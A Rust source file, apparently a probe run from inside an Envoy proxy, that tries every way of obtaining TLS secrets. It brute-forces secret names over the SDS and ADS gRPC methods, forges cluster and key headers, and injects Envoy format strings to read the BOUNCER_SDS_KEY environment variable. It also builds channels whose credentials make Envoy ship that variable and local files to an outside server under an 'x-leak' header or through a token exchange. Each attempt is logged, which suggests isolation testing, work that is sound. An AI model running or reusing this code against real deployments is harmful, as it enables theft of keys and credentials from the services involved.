//! The ways to ask for a secret from inside: every method, every name, every claim, over every channel.

use crate::config::Config;
use crate::host;
use crate::places::SECRET_NAME;
use crate::wire::{field, frame};
use std::collections::BTreeSet;

const SDS: &str = "envoy.service.secret.v3.SecretDiscoveryService";
const ADS: &str = "envoy.service.discovery.v3.AggregatedDiscoveryService";
const SECRET: &str = "type.googleapis.com/envoy.extensions.transport_sockets.tls.v3.Secret";
const FILE_BASED_METADATA: &str = "envoy.grpc_credentials.file_based_metadata";

/// What the formatter of a header, or of anything else, might put in.
const FORMATS: &[&str] =
    &["%ENVIRONMENT(BOUNCER_SDS_KEY)%", "%FILTER_STATE(envoy.tls.certificate_mappers.on_demand_secret:PLAIN)%"];

/// What is known so far.
#[derive(Debug, Default, Clone)]
pub(crate) struct Known {
    /// Tags, of all callers and clusters.
    pub(crate) tags: BTreeSet<String>,
    /// Keys that may be the one, found or given.
    pub(crate) keys: BTreeSet<String>,
}

/// One attempt, to be told.
pub(crate) struct Attempt {
    /// What was tried.
    pub(crate) what: String,
    /// What the host said.
    pub(crate) status: u32,
}

/// `GrpcService` with `envoy_grpc`, and with metadata of its own.
pub(crate) fn service(cluster: &str, metadata: &[(&str, &str)]) -> Vec<u8> {
    let metadata = metadata.iter().flat_map(|(key, value)| field(5, [field(1, key), field(2, value)].concat()));
    field(1, field(1, cluster)).into_iter().chain(metadata).collect()
}

/// `GrpcService` with `google_grpc`: a channel of its own to any address, with credentials that Envoy fetches for it.
fn google(target: &str, ca: Option<&str>, call_credentials: &[u8]) -> Vec<u8> {
    let channel = match ca {
        Some(ca) => field(1, field(1, field(3, ca))),
        None => field(3, []),
    };
    let calls = if call_credentials.is_empty() { Vec::new() } else { field(3, call_credentials) };
    let factory = if call_credentials.is_empty() { Vec::new() } else { field(5, FILE_BASED_METADATA) };
    field(2, [field(1, target), field(2, channel), calls, field(4, "spy"), factory].concat())
}

/// Call credentials that send a `DataSource` of Envoy's as a header.
fn file_based(source: &[u8], header: &str) -> Vec<u8> {
    const TYPE: &str = "type.googleapis.com/envoy.config.grpc_credential.v3.FileBasedMetadataConfig";
    let config = [field(1, source), field(2, header)].concat();
    let plugin = [field(1, FILE_BASED_METADATA), field(3, [field(1, TYPE), field(2, config)].concat())].concat();
    field(6, plugin)
}

/// Call credentials that send a file of Envoy's to a token service.
fn token_exchange(file: &str, to: &str) -> Vec<u8> {
    let uri = format!("http://{to}/token");
    field(7, [field(1, uri), field(6, file), field(7, "urn:ietf:params:oauth:token-type:jwt")].concat())
}

/// Every name under which a secret might be served.
fn names(known: &Known, config: &Config) -> Vec<String> {
    let zero = "0".repeat(64);
    let mut names = vec!["none".to_owned(), "*".to_owned(), String::new(), SECRET_NAME.to_owned()];
    for tag in &known.tags {
        names.extend([tag.clone(), format!("/{tag}"), format!("{zero}/{tag}"), format!("named/{tag}")]);
        names.extend(known.keys.iter().map(|key| format!("{key}/{tag}")));
        names.extend(FORMATS.iter().map(|format| format!("{format}/{tag}")));
    }
    names.extend(config.clusters.iter().map(|cluster| format!("named/{cluster}")));
    names
}

/// `DeltaDiscoveryRequest`.
fn delta(names: &[String]) -> Vec<u8> {
    let node = field(1, [field(1, "payments-east-envoy-1"), field(2, "payments-east")].concat());
    let names = names.iter().flat_map(|name| field(3, name));
    [node, field(2, SECRET)].concat().into_iter().chain(names).collect()
}

/// `DiscoveryRequest`.
fn sotw(names: &[String]) -> Vec<u8> {
    let node = field(2, [field(1, "payments-east-envoy-1"), field(2, "payments-east")].concat());
    let names = names.iter().flat_map(|name| field(3, name));
    [node, field(4, SECRET)].concat().into_iter().chain(names).collect()
}

/// The metadata that a request may carry: every cluster's name, every key.
fn claims(known: &Known, config: &Config) -> Vec<Vec<(&'static str, String)>> {
    let clusters = std::iter::once(None).chain(config.clusters.iter().map(Some));
    let keys: Vec<Option<String>> = std::iter::once(None)
        .chain(known.keys.iter().cloned().map(Some))
        .chain(std::iter::once(Some(FORMATS[0].to_owned())))
        .collect();
    let mut claims = Vec::new();
    for cluster in clusters {
        for key in &keys {
            let cluster = cluster.map(|cluster| ("x-bouncer-cluster", cluster.clone()));
            let key = key.clone().map(|key| ("x-bouncer-sds-key", key));
            claims.push(cluster.into_iter().chain(key).collect());
        }
    }
    claims
}

fn borrow<'a>(claim: &'a [(&'static str, String)]) -> Vec<(&'a str, &'a str)> {
    claim.iter().map(|(key, value)| (*key, value.as_str())).collect()
}

fn describe(claim: &[(&str, &str)]) -> String {
    // A key that was found is in the report of where it was found, and need not be in every line.
    claim.iter().map(|(key, value)| format!("{key}={}", value.get(..16).unwrap_or(value))).collect::<Vec<_>>().join(" ")
}

/// Delta SDS by gRPC stream, the way that Envoy itself asks, with every claim.
pub(crate) fn ask(known: &Known, config: &Config, attempts: &mut Vec<Attempt>) {
    let message = delta(&names(known, config));
    for claim in claims(known, config) {
        let claim = borrow(&claim);
        let (status, _) = host::grpc_stream(&service("bouncer_sds", &[]), SDS, "DeltaSecrets", &claim, &message);
        attempts.push(Attempt { what: format!("DeltaSecrets stream {}", describe(&claim)), status });
    }
}

/// Every other way.
pub(crate) fn ask_in_every_way(known: &Known, config: &Config, attempts: &mut Vec<Attempt>) {
    ask(known, config, attempts);
    let names = names(known, config);
    let (delta, sotw) = (delta(&names), sotw(&names));
    let methods: [(&str, &str, &[u8]); 5] = [
        (SDS, "DeltaSecrets", &delta),
        (SDS, "StreamSecrets", &sotw),
        (SDS, "FetchSecrets", &sotw),
        (ADS, "DeltaAggregatedResources", &delta),
        (ADS, "StreamAggregatedResources", &sotw),
    ];
    for claim in claims(known, config) {
        let claim = borrow(&claim);
        for cluster in ["bouncer_sds", "bouncer_intercept"] {
            for (name, method, message) in methods {
                let (status, _) = host::grpc_call(&service(cluster, &[]), name, method, &claim, message);
                attempts.push(Attempt { what: format!("{method} call {cluster} {}", describe(&claim)), status });
                let (status, _) = host::grpc_call(&service(cluster, &claim), name, method, &[], message);
                attempts.push(Attempt { what: format!("{method} own metadata {cluster}"), status });
                let path = format!("/{name}/{method}");
                let fixed = [
                    (":method", "POST"),
                    (":path", path.as_str()),
                    (":authority", cluster),
                    ("content-type", "application/grpc"),
                    ("te", "trailers"),
                ];
                let headers = [&fixed[..], &claim].concat();
                let (status, _) = host::http_call(cluster, &headers, &frame(message));
                attempts.push(Attempt { what: format!("{method} http {cluster} {}", describe(&claim)), status });
            }
        }
    }
    past_the_clusters(known, config, &delta, attempts);
}

/// Channels that no cluster of the configuration leads to, and what Envoy would put into a call.
fn past_the_clusters(known: &Known, config: &Config, delta: &[u8], attempts: &mut Vec<Attempt>) {
    let socket = format!("unix:{}", config.sds_socket);
    let environment = field(4, "BOUNCER_SDS_KEY");
    for cluster in &config.clusters {
        let claim = [("x-bouncer-cluster", cluster.as_str())];
        for credentials in [Vec::new(), file_based(&environment, "x-bouncer-sds-key")] {
            let to = google(&socket, None, &credentials);
            let (status, _) = host::grpc_stream(&to, SDS, "DeltaSecrets", &claim, delta);
            attempts.push(Attempt { what: format!("own channel {cluster}"), status });
        }
        // Straight to the upstream, with whatever credential Envoy presents there.
        let (status, _) = host::grpc_call(&service(cluster, &[("x-leak", FORMATS[0])]), "spy", "Call", &[], b"");
        attempts.push(Attempt { what: format!("call {cluster}"), status });
        let headers = [(":method", "GET"), (":path", "/spy"), (":authority", "x"), ("x-leak", FORMATS[0])];
        let (status, _) = host::http_call(cluster, &headers, b"");
        attempts.push(Attempt { what: format!("http {cluster}"), status });
    }
    if config.own_server.is_empty() {
        return;
    }
    let mut sources = vec![("environment".to_owned(), file_based(&environment, "x-leak"))];
    for file in &config.files {
        sources.push((format!("header {file}"), file_based(&field(1, file), "x-leak")));
        sources.push((format!("token {file}"), token_exchange(file, &config.own_server)));
    }
    let tags = known.tags.iter().map(String::as_str).collect::<Vec<_>>().join(",");
    for (what, credentials) in sources {
        let to = google(&config.own_server, Some(&config.own_ca), &credentials);
        let metadata = [("x-tags", tags.as_str()), ("x-format", FORMATS[0])];
        let (status, _) = host::grpc_call(&to, "spy", "Drop", &metadata, b"");
        attempts.push(Attempt { what: format!("sends out {what}"), status });
    }
}
